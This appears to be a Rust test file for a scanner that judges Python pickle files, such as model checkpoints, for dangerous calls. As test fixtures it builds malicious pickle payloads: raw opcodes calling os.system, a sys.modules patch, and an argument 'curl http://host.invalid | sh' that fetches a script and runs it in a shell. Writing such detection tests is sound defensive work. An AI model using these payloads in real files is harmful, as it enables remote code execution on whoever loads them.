//! What holds for every program: one unknown call is never silent, and no bytes bring the judge down.

use domain::scan::{Rule, Weight};
use proptest::prelude::*;
use taintline_scan::pickle::Origin;
use taintline_scan::{Project, Rules, pickle};

use crate::assemble::{Pickle, global, int, text};
use crate::verdict::{RULES, judged, judged_by, weight};

/// Programs of checkpoints, with one place at which something is called.
fn around(kind: u8, called: &dyn Fn(Pickle) -> Pickle) -> Vec<u8> {
    let start = Pickle::new();
    match kind % 6 {
        0 => start.dict(&[("epoch", &int(3)), ("model", called)]),
        1 => start
            .object("torch.nn.modules.linear", "Linear")
            .build(&|pickle| pickle.dict(&[("bias", called)])),
        2 => start
            .call("collections", "OrderedDict", &[])
            .text("weight")
            .op(b'2')
            .pop()
            .pop()
            .text("k"),
        3 => start.call("torch._utils", "_rebuild_parameter", &[called, &int(1)]),
        4 => start
            .object("sklearn.linear_model._logistic", "LogisticRegression")
            .build(&|pickle| pickle.dict(&[("coef_", called)])),
        _ => start.tuple(&[&text("a"), called, &int(2)]),
    }
    .stop()
}

proptest! {
    #[test]
    fn one_call_of_an_unknown_name_is_never_silent(
        kind in prop::sample::select(vec![0_u8, 1, 3, 4, 5]),
        module in "[a-z]{3,8}(\\.[a-z]{2,6}){0,2}",
        name in "[a-zA-Z_][a-zA-Z0-9_]{2,10}",
    ) {
        let called = |pickle: Pickle| {
            pickle.op(b'c').raw(format!("{module}\n{name}\n").as_bytes()).op(b')').op(b'R')
        };
        let rules = &*RULES;
        let known = matches!(rules.standing(&module, &name), taintline_scan::rules::Standing::Listed(_));
        prop_assume!(!known);
        let bytes = around(kind, &called);
        prop_assert!(weight(&bytes) >= Some(Weight::Custom));
    }

    #[test]
    fn an_unknown_name_within_known_modules_is_never_silent(
        module in prop::sample::select(vec!["torch", "torch._utils", "numpy", "sklearn.tree._tree", "builtins", "collections", "os"]),
        name in "[a-z_][a-z0-9_]{5,10}(\\.[a-z]{3,6})?",
    ) {
        let rules = &*RULES;
        prop_assume!(!matches!(rules.standing(module, &name), taintline_scan::rules::Standing::Listed(_)));
        let bytes = Pickle::new().stack_global(module, &name).op(b')').op(b'R').stop();
        prop_assert!(weight(&bytes) >= Some(Weight::Unknown));
    }

    #[test]
    fn any_bytes_are_judged(bytes in prop::collection::vec(any::<u8>(), 0..200)) {
        judged(&bytes);
    }

    #[test]
    fn any_opcodes_are_judged(opcodes in prop::collection::vec(prop::sample::select(b"(]})NK\x01\x88a2e0sutlbRoi\x81\x85\x86\x94h\x00q\x00cos\nsystem\nctorch._utils\n_rebuild_parameter\n.".to_vec()), 0..120)) {
        judged(&opcodes);
    }
}

#[test]
fn a_flood_of_names_is_no_clean_answer() {
    let mut flood = Vec::new();
    for number in 0..60_000 {
        flood.extend(format!("cnumpy\nname{number}\n0").into_bytes());
    }
    let done = judged(&[flood.as_slice(), b"N."].concat());
    assert!(done.weight() >= Some(Weight::Unknown) && !done.is_complete());
}

#[test]
fn without_a_framework_its_names_are_foreign_and_never_more_than_unknown() {
    let bytes = Pickle::new()
        .call("torch._utils", "_rebuild_parameter", &[&int(1), &int(1)])
        .stop();
    assert_eq!(weight(&bytes), None);
    let done = judged_by(&Rules::builtin().without("torch"), &bytes, Origin::Bare);
    assert_eq!(done.weight(), Some(Weight::Unknown));
    assert!(Rules::frameworks().any(|name| name == "torch"));
}

#[test]
fn a_project_admits_what_it_learnt_and_nothing_dangerous() {
    let own = Pickle::new()
        .tuple(&[
            &|pickle: Pickle| pickle.object("models.net", "Net"),
            &|pickle: Pickle| pickle.call("models.net", "make", &[&int(1)]),
        ])
        .stop();
    let learnt = Project::from_needs(&judged(&own).needs);
    let rules = Rules::builtin().with_project(learnt);
    assert_eq!(judged_by(&rules, &own, Origin::Bare).weight(), None);
    let evil = Pickle::new().call(
        "models.net",
        "make",
        &[&text("curl http://host.invalid | sh")],
    );
    let done = judged_by(&rules, &evil.stop(), Origin::Bare);
    assert_eq!(done.weight(), Some(Weight::Dangerous));
    let system = Pickle::new()
        .call("os", "system", &[&text("echo MARKER")])
        .stop();
    let learnt = Project::from_needs(&judged(&system).needs);
    let rules = Rules::builtin().with_project(learnt);
    assert_eq!(
        judged_by(&rules, &system, Origin::Bare).weight(),
        Some(Weight::Dangerous)
    );
}

#[test]
fn what_a_later_file_needs_beyond_an_earlier_one_is_told() {
    let earlier = judged(&Pickle::new().object("models.net", "Net").stop()).needs;
    let later = Pickle::new().tuple(&[
        &|pickle: Pickle| pickle.object("models.net", "Net"),
        &global("models.net", "Extra"),
    ]);
    let later = judged(&later.stop()).needs;
    let difference = pickle::difference(&earlier, &later);
    assert_eq!(difference.new.len(), 1);
    assert_eq!(difference.new[0].name, "Extra");
}

#[test]
fn names_that_are_only_imported_are_bounded_too() {
    let mut flood = Vec::new();
    for number in 0..10_100 {
        flood.extend(format!("cm{number}\nn\n0").into_bytes());
    }
    let done = judged(&[flood.as_slice(), b"N."].concat());
    let told = |gap: &domain::scan::Gap| gap.what.contains("different names");
    assert_eq!(done.gaps.iter().filter(|gap| told(gap)).count(), 1);
    assert!(done.needs.len() <= 4096 && done.weight() >= Some(Weight::Unknown));
}

#[test]
fn what_is_dangerous_behind_a_flood_of_names_stays_so() {
    let flood = |each: fn(usize) -> String| {
        let names = (0..12_000).map(each);
        names.collect::<String>().into_bytes()
    };
    let called = flood(|n| format!("cm{n}\nN\n)R0"));
    let imported = flood(|n| format!("cm{n}\nn\n0"));
    // More than are looked at closely.
    let long = (0..25_000).map(|n| format!("cm{n}\nN\n)R0"));
    let long = long.collect::<String>().into_bytes();
    let payloads: [(&[u8], Rule); 5] = [
        (b"cos\nsystem\n(S'echo MARKER'\ntR.", Rule::RunsCommand),
        (b"(S'echo MARKER'\nios\nsystem\n.", Rule::RunsCommand),
        (b"cos\nsystem\n.", Rule::RunsCommand),
        (b"csys\nmodules\n(S'a'\nNu.", Rule::PatchesModule),
        (b"\x82\x01)R.", Rule::Extension),
    ];
    for (payload, rule) in payloads {
        for front in [&called, &imported] {
            let done = judged(&[front.as_slice(), payload].concat());
            let told = |finding: &&domain::scan::Finding| finding.rule == rule;
            let told = done
                .findings
                .iter()
                .find(told)
                .map(|finding| finding.weight);
            assert_eq!(told, Some(Weight::Dangerous), "{rule}");
            let flood = |gap: &domain::scan::Gap| gap.what.contains("different names");
            assert!(done.gaps.iter().any(flood));
        }
    }
    for (payload, _) in &payloads[..2] {
        let done = judged(&[long.as_slice(), payload].concat());
        assert_eq!(done.weight(), Some(Weight::Dangerous));
    }
    // A flood alone is what it was.
    assert_eq!(
        judged(&[called.as_slice(), b"N."].concat()).weight(),
        Some(Weight::Unknown)
    );
}

#[test]
fn a_flood_of_objects_is_one_finding() {
    let mut flood = Pickle::new().op(b'(');
    for _ in 0..5000 {
        flood = flood.object("models.net", "Net");
    }
    let done = judged(&flood.op(b't').stop());
    assert_eq!(done.findings.len(), 1);
}
